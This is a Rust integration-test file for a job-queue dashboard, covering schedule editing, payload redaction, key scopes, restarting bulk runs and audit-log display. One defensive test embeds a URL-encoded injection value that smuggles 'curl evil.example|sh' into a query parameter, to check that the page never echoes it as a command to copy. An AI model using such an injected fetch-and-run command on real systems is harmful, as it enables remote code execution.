//! What is changed on pages: schedules, settings, and runs that end with their server.

use std::time::{Duration, Instant};

use queuekit::schedules::ScheduleDraft;
use queuekit::{Declared, JobDraft};
use serde_json::json;

use super::Browser;
use crate::common::{Server, Store, by, guarded, guarded_with, on_every_store};

/// A schedule is changed by its form, and keeps what the form does not have, over each store.
fn a_schedule_is_changed_on_its_page(server: &mut Server) {
    let job = json!({
        "kind": "report", "queue": "reports", "payload": {"day": 12345678901234567890_u64},
        "max_attempts": 7, "priority": 20, "metadata": {"team": "ops"}, "partition_key": "p",
    });
    let schedule = json!({"cron": "30 2 * * *", "job": job, "overlap": "skip", "jitter_ms": 5000});
    server.ask("PUT", "/v1/schedules/nightly").json(&schedule).expect(201);
    let browser = Browser::new(server);
    let page = browser.get("/ui/schedules/nightly").expect(200).text;
    assert!(page.contains("value=\"30 2 * * *\""), "{page}");
    assert!(page.contains("12345678901234567890"), "no number goes through a float");
    let edit = |fields: &[(&str, &str)]| browser.post("/ui/schedules/nightly/edit", fields);
    let fields =
        [("timing", "0 4 * * 1"), ("zone", "Europe/Berlin"), ("payload", r#"{"day":[1]}"#)];
    edit(&fields).expect(303);
    let stored = || server.get("/v1/schedules/nightly").send().expect(200).value();
    let new = stored();
    assert_eq!((&new["cron"], &new["zone"]), (&json!("0 4 * * 1"), &json!("Europe/Berlin")));
    assert_eq!(new["job"]["payload"], json!({"day": [1]}));
    for (field, kept) in [
        ("kind", json!("report")),
        ("queue", json!("reports")),
        ("max_attempts", json!(7)),
        ("priority", json!(20)),
        ("metadata", json!({"team": "ops"})),
        ("partition_key", json!("p")),
    ] {
        assert_eq!(new["job"][field], kept, "{field}");
    }
    assert_eq!((&new["overlap"], &new["jitter_ms"]), (&json!("skip"), &json!(5000)));
    edit(&[("timing", "every 5m"), ("zone", ""), ("payload", "1")]).expect(303);
    assert_eq!(stored()["every_ms"], json!(300_000));
    for (timing, payload) in [("every blue moon", "1"), ("99 * * * *", "1"), ("every 5m", "{")] {
        let fields = [("timing", timing), ("zone", ""), ("payload", payload)];
        let page = edit(&fields).expect(422).text;
        assert!(page.contains(&format!("value=\"{timing}\"")), "what was typed stays: {page}");
    }
    assert_eq!(stored()["every_ms"], json!(300_000), "nothing that is refused is stored");
}

on_every_store!(a_schedule_is_changed_on_its_page);

#[test]
fn s9_a_payload_that_the_settings_hide_is_not_in_the_form_and_stays() {
    let store = Store::of("memory").unwrap();
    let file = store.directory.path().join("queuekit.toml");
    std::fs::write(file, "[dashboard]\nredact = [{ queue = \"pay.*\" }]").unwrap();
    let server = Server::start(store, &[]);
    let job = json!({"kind": "t", "queue": "pay.card", "payload": "hunter2"});
    let schedule = json!({"cron": "@daily", "job": job});
    server.ask("PUT", "/v1/schedules/s").json(&schedule).expect(201);
    let browser = Browser::new(&server);
    assert!(!browser.get("/ui/schedules/s").expect(200).text.contains("hunter2"));
    let fields = [("timing", "@hourly"), ("payload", "\"other\"")];
    browser.post("/ui/schedules/s/edit", &fields).expect(303);
    let stored = server.get("/v1/schedules/s").send().expect(200).value();
    assert_eq!(
        (&stored["job"]["payload"], &stored["cron"]),
        (&json!("hunter2"), &json!("@hourly"))
    );
}

#[test]
fn s11_a_key_changes_no_schedule_that_is_not_its_own() {
    let server = guarded();
    let schedule = json!({"cron": "@daily", "job": {"kind": "t", "queue": "other"}});
    by(&server, "admin", "PUT", "/v1/schedules/s").json(&schedule).expect(201);
    let acme = Browser::of(&server, "acme");
    acme.post("/ui/schedules/s/edit", &[("timing", "@hourly")]).expect(404);
    let reader = Browser::of(&server, "reader");
    let page = reader.get("/ui/schedules/s").expect(200).text;
    assert!(page.contains("Your key lacks the scope manage"), "{page}");
    reader.post("/ui/schedules/s/edit", &[("timing", "@hourly")]).expect(403);
}

#[test]
fn a_run_that_ended_with_its_server_can_be_begun_again() {
    let session = "[dashboard]\nsession_secret = \"0123456789abcdef0123456789abcdef\"";
    let mut server = guarded_with(session);
    let admin = Browser::of(&server, "admin");
    let fields = [("action", "retry"), ("q", "queue:acme.q"), ("matched", "1"), ("over", "10m")];
    let run = admin.post("/ui/bulk", &fields).expect(303).header("location").unwrap().to_owned();
    admin.get(&run).expect(200);
    let cookie = admin.cookie().unwrap().to_owned();
    server.kill_and_restart();
    let admin = Browser::with(&server, &cookie);
    let page = admin.get(&run).expect(404).text.replace("&#38;", "&");
    assert!(page.contains("This server does not know the run"), "{page}");
    let again = "/ui/bulk?action=retry&q=queue%3Aacme.q&over=10m";
    assert!(page.contains(&format!("href=\"{again}\"")), "{page}");
    let page = admin.get(again).expect(200).text;
    assert!(page.contains("value=\"10m\" checked"), "{page}");
    let id = run.split('?').next().unwrap();
    for nothing in ["", "?action=explode&q=queue:a", "?action=retry&q=queue:", "?consumer=a%20b"] {
        let page = admin.get(&format!("{id}{nothing}")).expect(404).text;
        assert!(!page.contains("begin again"), "{nothing}: {page}");
    }
}

/// Guard: what a link brings stood unquoted in a command to copy.
#[test]
fn s6_a_link_to_a_run_brings_no_command_to_copy() {
    let server = guarded();
    let admin = Browser::of(&server, "admin");
    let evil = "1h%3B%20curl%20evil.example%7Csh%20%23";
    let page = admin.get(&format!("/ui/runs/a?consumer=c&from={evil}")).expect(404).text;
    assert!(!page.contains("curl evil"), "{page}");
    let page = admin.get("/ui/runs/a?consumer=c&from=1h").expect(404).text;
    assert!(page.contains("--from 1h"), "{page}");
}

#[test]
fn the_last_change_of_settings_is_told_as_far_as_the_audit_log_has_it() {
    let server = guarded();
    for queue in ["acme.a", "acme.ab"] {
        let job = json!({"kind": "t", "queue": queue});
        by(&server, "admin", "POST", "/v1/jobs").json(&job).expect(201);
    }
    let patch = json!({"description": "x"});
    by(&server, "admin", "PATCH", "/v1/queues/acme.ab").json(&patch).expect(200);
    let page = |key: &str, queue: &str| {
        Browser::of(&server, key).get(&format!("/ui/queues/{queue}")).expect(200).text
    };
    let told = "the latest was made by admin <time";
    let end = Instant::now() + Duration::from_secs(10);
    while !page("admin", "acme.ab").contains(told) {
        assert!(Instant::now() < end, "{}", page("admin", "acme.ab"));
    }
    assert!(!page("admin", "acme.a").contains("the latest was made"), "of another queue");
    for key in ["acme", "reader"] {
        assert!(
            !page(key, "acme.ab").contains("the latest was made"),
            "{key} may not read the log"
        );
    }
}

/// Guard: after an operator's change, a declaration of the same code changes nothing for ever.
#[test]
fn r15_1_a_page_resets_a_schedule_to_its_code() {
    let store = Store::of("sqlite").unwrap();
    let url = store.url.clone();
    let server = Server::start(store, &[]);
    let declared = || {
        let report = ScheduleDraft::cron("nightly", "30 2 * * *", JobDraft::new("report", "{}"));
        let declare = async {
            let client = queuekit::connect(&url).await.unwrap();
            let declared = client.schedule(report).await.unwrap();
            client.close().await.unwrap();
            declared
        };
        tokio::runtime::Runtime::new().unwrap().block_on(declare)
    };
    declared();
    let browser = Browser::new(&server);
    let page = || browser.get("/ui/schedules/nightly").expect(200).text;
    let can_reset = |page: &str| page.contains("Reset nightly to the code");
    assert!(!can_reset(&page()), "it is as the code declares it");
    let fields = [("timing", "0 4 * * *"), ("zone", ""), ("payload", "{}")];
    browser.post("/ui/schedules/nightly/edit", &fields).expect(303);
    let edited = page();
    assert!(can_reset(&edited) && edited.contains("changed by an operator"), "{edited}");
    let list = || browser.get("/ui/schedules").expect(200).text;
    assert!(list().contains(">changed</span>"), "{}", list());
    assert_eq!(declared(), Declared::Unchanged);
    browser.post("/ui/schedules/nightly/reset", &[]).expect(303);
    let reset = page();
    assert!(!can_reset(&reset) && reset.contains("0 4 * * *"), "{reset}");
    assert!(!list().contains(">changed</span>"), "{}", list());
    assert_eq!(declared(), Declared::Changed);
    assert!(page().contains("30 2 * * *"));
}
